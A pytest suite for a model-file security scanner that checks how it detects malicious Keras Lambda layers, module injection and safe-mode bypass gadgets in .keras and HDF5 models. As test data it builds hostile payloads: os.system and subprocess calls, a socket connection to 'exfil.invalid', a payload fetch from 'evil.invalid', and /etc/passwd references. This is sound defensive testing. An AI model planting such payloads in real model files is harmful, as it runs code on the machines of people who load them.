"""Keras models: THREATS.md 4.5 (K1-K6) over the model config and the legacy HDF5 format.

Benign models are real (tests/fixtures/keras, saved by Keras 3, see generate.py). Malicious
configs are JSON built here; Lambda bytecode comes from `marshal.dumps(compile(...))`, which
only serialises (nothing runs), plus code objects written by CPython 3.7-3.13
(fixtures/keras/pycode_vectors.json). HDF5 files are written with h5py.
"""

from __future__ import annotations

import base64
import contextlib
import json
import marshal
import random
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import h5py
import numpy as np
import pytest

from shardscan.limits import Limits
from shardscan.model import Severity
from shardscan.pipeline.runner import Runner, ScanOptions
from shardscan.policy import load_policy
from shardscan.scanners.keras import _analyse, analyse_keras_config
from shardscan.scanners.pycode import MarshalError, decode_code, referenced_globals, strings_in

FIXTURES = Path(__file__).parent / "fixtures" / "keras"
VECTORS = json.loads((FIXTURES / "pycode_vectors.json").read_text("utf-8"))
C, W, I = Severity.CRITICAL, Severity.WARNING, Severity.INFO


# --- builders ---------------------------------------------------------------------------------


def code_b64(src: str) -> str:
    """base64(marshal(code of the first lambda/def in src)), as Keras func_dump writes it."""
    mode = "eval" if src.startswith("lambda") else "exec"
    code = compile(src, "<test>", mode).co_consts[0]
    return base64.encodebytes(marshal.dumps(code)).decode("ascii")


def lambda3(code: str, name: str = "lam") -> dict:
    """Keras 3 Lambda layer (.keras config.json and Keras 3 .h5)."""
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": name, "trainable": True, "arguments": {},
                       "function": {"class_name": "__lambda__",
                                    "config": {"code": code, "defaults": None, "closure": None}}}}


def lambda2(code: str, name: str = "lam", as_list: bool = True) -> dict:
    """Keras 2 / tf.keras Lambda layer (legacy .h5 model_config)."""
    return {"class_name": "Lambda",
            "config": {"name": name, "trainable": True, "dtype": "float32",
                       "function": [code, None, None] if as_list else code, "function_type": "lambda",
                       "module": "__main__", "output_shape": None, "output_shape_type": "raw",
                       "output_shape_module": None, "arguments": {}}}


def dense(**overrides) -> dict:
    config = {"name": "dense", "units": 2, "activation": "relu",
              "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                     "config": {"seed": None}, "registered_name": None}}
    config.update(overrides)
    return {"module": "keras.layers", "class_name": "Dense", "config": config, "registered_name": None}


def fn(module: str, name: str, registered: str | None = None) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered or name}


def sequential(*layers: dict, name: str = "seq") -> dict:
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": name, "layers": [{"module": "keras.layers", "class_name": "InputLayer",
                                                 "config": {"batch_shape": [None, 4], "name": "in"}},
                                                *layers]}}


def analyse(config: object) -> list:
    return analyse_keras_config(config, scanner_id="keras", location="config.json")


def rules(findings) -> dict[str, Severity]:
    return {f.rule_id: f.severity for f in findings}


def failing(findings) -> list:
    return [(f.rule_id, f.message) for f in findings if f.severity >= W]


def h5_bytes(tmp_path: Path, attrs: dict, datasets: dict | None = None) -> bytes:
    path = tmp_path / "build.h5"
    with h5py.File(path, "w") as f:
        for key, value in attrs.items():
            f.attrs[key] = value
        for key, value in (datasets or {}).items():
            f[key] = value
    data = path.read_bytes()
    path.unlink()
    return data


# --- real benign models -----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["sequential.h5", "functional.h5", "weights.weights.h5"])
def test_benign_h5_fixtures_are_clean(name, scan_bytes):
    report = scan_bytes((FIXTURES / name).read_bytes(), name)
    assert report.status == "scanned"
    assert "hdf5" in report.formats
    assert failing(report.findings) == []


@pytest.mark.parametrize("name", ["sequential.keras", "functional.keras"])
def test_benign_keras_configs_are_clean(name):
    with zipfile.ZipFile(FIXTURES / name) as z:
        config = json.loads(z.read("config.json"))
        weights = z.read("model.weights.h5")
    assert failing(analyse(config)) == []
    assert analyse(json.dumps(config)) == analyse(config)  # text accepted too
    # The weights member is HDF5 without a model config: nothing to report.
    assert _scan_h5(weights).findings == []


def _scan_h5(data: bytes, limits: Limits | None = None):
    from shardscan.model import ObjectRef, Unit
    from shardscan.scanners.base import ScanContext
    from shardscan.scanners.keras import KerasH5Scanner
    from shardscan.storage.reader import BytesReader

    ctx = ScanContext(policy=load_policy(), limits=limits or Limits())
    unit = Unit(ObjectRef(uri="m.h5", size=len(data)), "keras", 0, len(data))
    return KerasH5Scanner().scan(unit, BytesReader(data), ctx)


def test_benign_lambda_fixture_is_a_warning_not_critical(scan_bytes):
    report = scan_bytes((FIXTURES / "lambda.h5").read_bytes(), "lambda.h5")
    assert [(f.rule_id, f.severity) for f in report.findings] == [("KER002", W)]
    [f] = report.findings
    assert "'double'" in f.message and "constants 2" in f.message and "CVE-2025-9905" in f.message
    assert f.evidence["attribute"] == "model_config"
    with zipfile.ZipFile(FIXTURES / "lambda.keras") as z:
        findings = analyse(json.loads(z.read("config.json")))
    assert [(f.rule_id, f.severity) for f in findings] == [("KER002", W)]
    assert findings[0].location == "config.json" and findings[0].evidence["path"].endswith(".function")


# --- the static bytecode decoder ----------------------------------------------------------------


@pytest.mark.parametrize("version", sorted(VECTORS))
def test_pycode_decodes_every_cpython_layout(version):
    vec = {k: bytes.fromhex(v) for k, v in VECTORS[version].items()}
    info = decode_code(vec["lambda_system"])
    assert {"__import__", "system"} <= set(info.names)
    assert {"os", "echo pwned"} <= set(info.strings)
    assert info.opcodes, "opcode family recognised"
    assert info.globals == ["__import__"]
    pairs = referenced_globals(info)
    assert ("os", "system") in pairs and ("builtins", "__import__") in pairs

    nested = decode_code(vec["nested"])
    assert nested.code_objects == 2
    assert {"subprocess", "socket", "eval", "len"} <= set(nested.globals)
    assert "compile" in nested.names and "compile" not in nested.globals  # an attribute, not a builtin
    assert ("socket", "create_connection") in nested.from_imports
    assert "id" in nested.strings

    benign = decode_code(vec["benign"])
    assert benign.names == [] and "2" in benign.numbers
    policy = load_policy()
    assert not [p for p in referenced_globals(benign) if policy.judge(*p).kind == "deny"]


def test_pycode_layouts_cover_3_7_to_3_13():
    assert {"3.7", "3.8", "3.10", "3.11", "3.12", "3.13"} <= set(VECTORS)
    layouts = {v: decode_code(bytes.fromhex(VECTORS[v]["benign"])).layout for v in VECTORS}
    assert layouts["3.7"] == "3.7" and layouts["3.8"] == layouts["3.10"] == "3.8-3.10"
    assert layouts["3.11"] == layouts["3.13"] == "3.11+"
    assert decode_code(bytes.fromhex(VECTORS["3.13"]["benign"])).opcodes == "3.13"


@pytest.mark.parametrize("data", [b"", b"c", b"N", b"\xe3" + b"\x00" * 20, b"\xe3" + b"\xff" * 64,
                                  b"\xe3" + b"(" * 5000, b"\xe3" + b"r\x05\x00\x00\x00" * 10])
def test_pycode_rejects_garbage_cleanly(data):
    with pytest.raises(MarshalError):
        decode_code(data)


def test_pycode_truncations_and_bitflips_never_crash():
    blob = bytes.fromhex(VECTORS["3.11"]["nested"])
    rng = random.Random(7)
    for cut in range(len(blob)):
        with contextlib.suppress(MarshalError):
            decode_code(blob[:cut])
    for _ in range(300):
        mutated = bytearray(blob)
        for _ in range(3):
            mutated[rng.randrange(len(mutated))] = rng.randrange(256)
        with contextlib.suppress(MarshalError):
            decode_code(bytes(mutated))


@pytest.mark.parametrize("module", ["pycode", "keras"])
def test_decoders_never_unmarshal_or_import_what_they_read(module):
    import ast

    tree = ast.parse((Path(__file__).parents[1] / "shardscan" / "scanners" / f"{module}.py").read_text("utf-8"))
    imported = {a.name.split(".")[0] for n in ast.walk(tree) if isinstance(n, (ast.Import, ast.ImportFrom))
                for a in n.names} | {(n.module or "").split(".")[0] for n in ast.walk(tree)
                                     if isinstance(n, ast.ImportFrom)}
    assert not imported & {"marshal", "keras", "tensorflow", "pickle", "importlib", "types"}
    called = {ast.unparse(n.func) for n in ast.walk(tree) if isinstance(n, ast.Call)}
    assert not {c.rsplit(".", 1)[-1] for c in called} & {"eval", "exec", "load_model", "__import__",
                                                         "import_module", "FunctionType", "CodeType"}
    assert {c for c in called if c.endswith("loads")} <= {"json.loads"}


# --- Lambda layers (K1, K2, CVE-2024-3660) -----------------------------------------------------


PAYLOADS = {
    "os.system": "lambda x: __import__('os').system('echo pwned') or x",
    "eval": "lambda x: eval('1+1') or x",
    "exec": "lambda x: exec('import os') or x",
    "subprocess": "lambda x: __import__('subprocess').run(['id']) and x",
    "socket": "lambda x: __import__('socket').create_connection(('exfil.invalid', 80)) and x",
    "open": "lambda x: open('/tmp/pwned-marker', 'w').write('x') and x",
}


@pytest.mark.parametrize("what", sorted(PAYLOADS))
@pytest.mark.parametrize("style", ["keras3", "keras2-list", "keras2-str"])
def test_malicious_lambda_is_critical(what, style):
    code = code_b64(PAYLOADS[what])
    layer = lambda3(code) if style == "keras3" else lambda2(code, as_list=style == "keras2-list")
    findings = analyse(sequential(dense(), layer))
    assert rules(findings) == {"KER001": C}, findings
    [f] = findings
    assert what.split(".")[0] in f.message and "'lam'" in f.message
    assert f.evidence["python"]


def test_lambda_message_names_the_call():
    [f] = analyse(sequential(lambda3(code_b64(PAYLOADS["os.system"]))))
    assert "os.system" in f.message and "process" in f.message
    assert "os.system" in f.evidence["reached"]


def test_lambda_with_global_module_reference():
    # `os` as a global of the lambda (the victim's module imported it).
    [f] = analyse(sequential(lambda3(code_b64("lambda x: os.popen('id') or x"))))
    assert f.rule_id == "KER001" and "os.popen" in f.message


def test_lambda_reaching_a_keras_gadget():
    src = "lambda x: keras.models.load_model('/tmp/x.keras', safe_mode=False)"
    findings = analyse(sequential(lambda3(code_b64(src))))
    assert rules(findings)["KER001"] == C


def test_benign_lambdas_are_warnings():
    for src in ("lambda x: x * 2", "lambda x: tf.nn.relu(x) + K.mean(x)", "lambda x: x.compile()"):
        findings = analyse(sequential(lambda3(code_b64(src))))
        assert rules(findings) == {"KER002": W}, (src, findings)


def test_keras2_output_shape_lambda_is_decoded():
    layer = lambda2(code_b64("lambda x: x * 2"))
    layer["config"]["output_shape"] = [code_b64(PAYLOADS["os.system"]), None, None]
    layer["config"]["output_shape_type"] = "lambda"
    findings = analyse(sequential(layer))
    assert sorted((f.rule_id, f.evidence["path"].rsplit(".", 1)[-1]) for f in findings) == [
        ("KER001", "output_shape"), ("KER002", "function")]


def test_serialised_lambda_outside_a_lambda_layer():
    # Keras 3 serialises any Python lambda as __lambda__ (e.g. as an activation).
    layer = dense(activation={"class_name": "__lambda__", "config": {"code": code_b64(PAYLOADS["eval"])}})
    [f] = analyse(sequential(layer))
    assert f.rule_id == "KER001" and "serialised lambda" in f.message


@pytest.mark.parametrize("payload,expected", [
    ("!!!not base64!!!\u00e9", "KER002"),       # not ASCII
    (base64.b64encode(b"\xe3garbage subprocess Popen").decode(), "KER001"),  # fallback strings
    (base64.b64encode(b"\xe3\x00\x01\x02").decode(), "KER002"),
    ("", "KER002"),
    (None, "KER002"),
])
def test_undecodable_lambda_payloads(payload, expected):
    layer = lambda3("x")
    layer["config"]["function"]["config"]["code"] = payload
    findings = analyse(sequential(layer))
    assert expected in rules(findings), findings
    assert "KER001" not in rules(findings) or expected == "KER001"


def test_fallback_strings_of_undecodable_bytes():
    assert strings_in(b"\x00os\x01system\x02\x03x") == ["os", "system"]


def test_nested_models_are_walked():
    # K6: a Lambda inside a Sequential inside a Functional.
    inner = sequential(lambda3(code_b64(PAYLOADS["os.system"])), name="inner")
    outer = {"module": "keras", "class_name": "Functional",
             "config": {"name": "outer", "layers": [inner, dense()], "input_layers": [], "output_layers": []}}
    assert rules(analyse(outer)) == {"KER001": C}


# --- module references (K3, CVE-2025-1550) ----------------------------------------------------


@pytest.mark.parametrize("module,name,capability", [
    ("builtins", "exec", "code-execution"),
    ("os", "system", "process"),
    ("posix", "system", "process"),
    ("subprocess", "Popen", "process"),
    ("socket", "create_connection", "network"),
])
def test_module_injection_is_critical(module, name, capability):
    findings = analyse(sequential(dense(activation=fn(module, name))))
    assert rules(findings) == {"KER003": C}, findings
    assert findings[0].evidence["capability"] == capability


def test_module_injected_class_and_registered_name():
    popen = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}, "registered_name": None}
    assert rules(analyse(sequential(dense(kernel_initializer=popen)))) == {"KER003": C}
    spoofed = {"module": "keras.layers", "class_name": "Dense", "config": {}, "registered_name": "os>system"}
    assert rules(analyse(sequential(spoofed))) == {"KER003": C}


def test_keras2_lambda_function_by_name():
    layer = {"class_name": "Lambda", "config": {"name": "l", "function": "system", "function_type": "function",
                                                "module": "os", "arguments": {"command": "id"}}}
    assert rules(analyse(sequential(layer))) == {"KER003": C}


def test_function_from_an_unknown_module_is_a_warning():
    findings = analyse(sequential(dense(activation=fn("mypkg.activations", "swishy"))))
    assert rules(findings) == {"KER004": W}
    assert "mypkg.activations.swishy" in findings[0].message


def test_keras_namespace_functions_are_fine():
    findings = analyse(sequential(dense(activation=fn("keras.activations", "relu")),
                                  dense(activation=fn("tensorflow.python.ops.nn_ops", "relu6"))))
    assert findings == []


# --- safe-mode gadgets (K4: CVE-2025-9906, CVE-2025-8747) ---------------------------------------


def test_enable_unsafe_deserialization_is_critical():
    layer = {"module": "keras.layers", "class_name": "Lambda",
             "config": {"name": "unlock", "function": fn("keras.config", "enable_unsafe_deserialization")}}
    later = lambda3(code_b64("lambda x: x"))
    findings = analyse(sequential(layer, later))
    assert rules(findings) == {"KER005": C, "KER002": W}
    assert any("safe mode off" in f.message for f in findings)


def test_load_model_with_safe_mode_false():
    layer = {"module": "keras.layers", "class_name": "Lambda",
             "config": {"name": "nested", "function": fn("keras.models", "load_model"),
                        "arguments": {"safe_mode": False}},
             "inbound_nodes": [{"args": [], "kwargs": {"inputs": "/tmp/evil.keras"}}]}
    findings = analyse(sequential(layer))
    assert rules(findings) == {"KER005": C, "KER010": W}
    assert sum(f.rule_id == "KER005" for f in findings) == 2  # the function and safe_mode=False


def test_func_load_gadget():
    assert rules(analyse(sequential(dense(activation=fn("keras.src.utils.python_utils", "func_load"))))) == {
        "KER005": C}


def test_get_file_is_critical():
    layer = {"module": "keras.layers", "class_name": "Lambda",
             "config": {"name": "fetch", "function": fn("keras.utils", "get_file"),
                        "arguments": {"origin": "https://evil.invalid/payload.tar.gz", "extract": True}}}
    findings = analyse(sequential(layer))
    assert rules(findings) == {"KER006": C, "KER010": W}


# --- TFOpLambda --------------------------------------------------------------------------------


def tfop(function: str) -> dict:
    return {"class_name": "TFOpLambda", "config": {"name": f"tf.{function}", "trainable": True,
                                                   "dtype": "float32", "function": function},
            "inbound_nodes": [["dense", 0, 0, {"y": 2.0}]]}


def test_tfoplambda_ops_are_listed_as_info():
    findings = analyse(sequential(tfop("math.multiply"), tfop("__operators__.add"), tfop("math.multiply")))
    assert rules(findings) == {"KER007": I}
    assert "math.multiply" in findings[0].message and "3 TFOpLambda" in findings[0].message


@pytest.mark.parametrize("function", ["io.write_file", "io.read_file", "io.gfile.rmtree", "py_function",
                                      "numpy_function", "load_op_library"])
def test_tfoplambda_dangerous_ops_are_critical(function):
    assert rules(analyse(sequential(tfop(function))))["KER008"] == C


def test_tensorflow_file_op_by_module():
    assert rules(analyse(sequential(dense(activation=fn("tensorflow.io", "write_file"))))) == {"KER008": C}


# --- custom objects and external references ------------------------------------------------------


def test_custom_objects_are_info():
    layer = {"module": "mypkg.layers", "class_name": "Gate", "config": {"name": "g"},
             "registered_name": "mypkg>Gate"}
    main = {"module": "__main__", "class_name": "Scale", "config": {}, "registered_name": "Custom>Scale"}
    findings = analyse(sequential(layer, main))
    assert rules(findings) == {"KER009": I}
    assert "mypkg>Gate" in findings[0].message


@pytest.mark.parametrize("value", ["https://evil.invalid/w.h5", "s3://bucket/vocab.txt", "/etc/passwd",
                                   "../../outside.keras", "C:\\models\\x.h5", "~/x.keras"])
def test_external_references_are_warnings(value):
    layer = {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "s", "vocabulary": value}}
    findings = analyse(sequential(layer))
    assert rules(findings) == {"KER010": W}


def test_names_with_slashes_are_not_paths():
    layer = dense(name="block/dense_1")
    layer["config"]["note"] = "a/b"
    assert analyse(sequential(layer)) == []


def test_findings_per_rule_are_capped():
    layers = [{"module": "keras.layers", "class_name": "StringLookup",
               "config": {"name": f"s{i}", "vocabulary": f"https://x.invalid/{i}"}} for i in range(80)]
    findings = analyse(sequential(*layers))
    assert len(findings) == 51
    assert findings[-1].evidence["suppressed"] == 30


# --- bounds and malformed configs ----------------------------------------------------------------


def test_deep_config_hits_the_depth_limit():
    node: object = lambda3(code_b64(PAYLOADS["os.system"]))
    for _ in range(2000):
        node = [node]
    findings = analyse({"class_name": "Sequential", "config": {"layers": node}})
    assert rules(findings) == {"KER012": W}


def test_node_limit():
    config = sequential(*[dense(name=f"d{i}") for i in range(200)])
    findings = _analyse(config, scanner_id="keras", location="", limits=Limits(max_keras_config_nodes=500))
    assert rules(findings) == {"KER012": W}


def test_deeply_nested_json_text():
    findings = analyse("[" * 100_000 + "]" * 100_000)
    assert rules(findings) == {"KER012": W}


@pytest.mark.parametrize("text,rule_id", [("{not json", "KER011"), (b"\xff\xfe{}", "KER011"), ("", "KER011"),
                                          ("null", None), ("[1, 2, 3]", None), ("\"x\"", None)])
def test_bad_config_text(text, rule_id):
    findings = analyse(text)
    assert [f.rule_id for f in findings] == ([rule_id] if rule_id else [])


def test_oversized_lambda_payload():
    layer = lambda3("A" * (4 * 1024 * 1024 * 4 // 3 + 10_000))
    assert rules(analyse(sequential(layer))) == {"KER002": W, "KER012": W}


# --- the HDF5 route, end to end ------------------------------------------------------------------


def test_h5_malicious_lambda_end_to_end(scan_bytes, tmp_path):
    config = sequential(dense(), lambda2(code_b64(PAYLOADS["os.system"])))
    data = h5_bytes(tmp_path, {"model_config": json.dumps(config), "keras_version": "2.15.0",
                               "backend": "tensorflow"}, {"model_weights/dense/kernel": np.zeros((4, 2))})
    report = scan_bytes(data, "model.h5")
    assert rules(report.findings) == {"KER001": C}
    [f] = report.findings
    assert "os.system" in f.message and "Keras 2.15.0" in f.message and "CVE-2024-3660" in f.message
    # The content decides, not the name.
    assert rules(scan_bytes(data, "weights.bin").findings) == {"KER001": C}


def test_h5_bytes_attribute_and_training_config(scan_bytes, tmp_path):
    # Keras 2 wrote model_config as bytes (a fixed-length HDF5 string).
    config = sequential(dense())
    training = {"loss": fn("os", "system"), "optimizer_config": {"class_name": "Adam", "config": {}}}
    data = h5_bytes(tmp_path, {"model_config": np.bytes_(json.dumps(config).encode()),
                               "training_config": json.dumps(training)})
    report = scan_bytes(data, "model.h5")
    assert rules(report.findings) == {"KER003": C}
    assert report.findings[0].evidence["attribute"] == "training_config"


def test_plain_hdf5_data_is_info(scan_bytes, tmp_path):
    data = h5_bytes(tmp_path, {"description": "not a model"}, {"x": np.arange(10)})
    report = scan_bytes(data, "data.h5")
    assert [(f.rule_id, f.severity) for f in report.findings] == [("KER013", I)]


@pytest.mark.parametrize("attrs,rule_id", [
    ({"model_config": "{not json"}, "KER011"),
    ({"model_config": np.int64(3)}, "KER011"),
    ({"model_config": np.array(["a", "b"], dtype="S1")}, "KER011"),
    ({"model_config": np.bytes_(b"\xff\xfe")}, "KER011"),
    ({"model_config": "[" * 50_000 + "]" * 50_000}, "KER012"),
])
def test_h5_bad_attributes(attrs, rule_id, scan_bytes, tmp_path):
    report = scan_bytes(h5_bytes(tmp_path, attrs), "model.h5")
    assert rules(report.findings) == {rule_id: W}, report.findings


def test_h5_attribute_size_limit(tmp_path):
    data = h5_bytes(tmp_path, {"model_config": np.bytes_(json.dumps(sequential(dense())).encode())})
    result = _scan_h5(data, Limits(max_keras_config_bytes=64))
    assert rules(result.findings) == {"KER012": W}


def test_h5_metadata_read_budget(tmp_path):
    data = h5_bytes(tmp_path, {"model_config": json.dumps(sequential(dense()))})
    result = _scan_h5(data, Limits(max_hdf5_metadata_read=100))
    assert rules(result.findings) == {"KER012": W}


@pytest.mark.parametrize("cut", [8, 64, 200, 1000, -100])
def test_truncated_h5(cut, scan_bytes):
    data = (FIXTURES / "lambda.h5").read_bytes()
    report = scan_bytes(data[:cut], "model.h5")
    assert report.findings, report
    assert {f.rule_id for f in report.findings} <= {"KER011", "KER002"}


def test_random_and_hostile_hdf5_bytes(scan_bytes):
    rng = random.Random(5)
    magic = b"\x89HDF\r\n\x1a\n"
    samples = [bytes(rng.getrandbits(8) for _ in range(4096)),
               magic + bytes(rng.getrandbits(8) for _ in range(4096)),
               magic + b"\x00" * 8 + b"\xff" * 4096,
               magic]
    real = bytearray((FIXTURES / "sequential.h5").read_bytes())
    for _ in range(20):  # superblock and object header bytes flipped
        pos = rng.randrange(8, 2048)
        real[pos] ^= 0xFF
    samples.append(bytes(real))
    for data in samples:
        started = time.monotonic()
        report = scan_bytes(data, "model.h5")
        assert time.monotonic() - started < 5
        assert report.status == "scanned" and report.error is None, report
        assert report.findings


def test_scanning_runs_and_imports_nothing(tmp_path):
    marker = tmp_path / "pwned-marker"
    src = f"lambda x: __import__('os').system('touch {marker}') or x"
    path = tmp_path / "evil.h5"
    path.write_bytes(h5_bytes(tmp_path, {"model_config": json.dumps(sequential(lambda2(code_b64(src))))}))
    script = ("import json, sys\n"
              "from shardscan.pipeline.runner import Runner, ScanOptions\n"
              "run = Runner(ScanOptions()).run([sys.argv[1]])\n"
              "print(json.dumps({'rules': sorted({f.rule_id for f in run.findings}),\n"
              "                  'modules': sorted(sys.modules)}))\n")
    out = subprocess.run([sys.executable, "-c", script, str(path)], capture_output=True, text=True,
                         timeout=120, check=True)
    result = json.loads(out.stdout)
    assert result["rules"] == ["KER001"]
    assert not marker.exists()
    assert "keras" not in result["modules"] and "tensorflow" not in result["modules"]


def test_keras_archive_end_to_end(scan_bytes, tmp_path):
    # .keras is a zip; its config.json reaches analyse_keras_config through the config scanner.
    pytest.importorskip("shardscan.scanners.configs")
    config = sequential(dense(activation=fn("builtins", "exec")), lambda3(code_b64(PAYLOADS["socket"])))
    path = tmp_path / "evil.keras"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", (FIXTURES / "weights.weights.h5").read_bytes())
    report = scan_bytes(path.read_bytes(), "evil.keras")
    hits = {(f.rule_id, f.location) for f in report.findings if f.severity == C}
    assert {("KER001", "config.json"), ("KER003", "config.json")} <= hits, report.findings


def test_runner_routes_hdf5_to_keras():
    entry = Runner(ScanOptions()).scanners["hdf5"]
    assert entry.id == "keras"
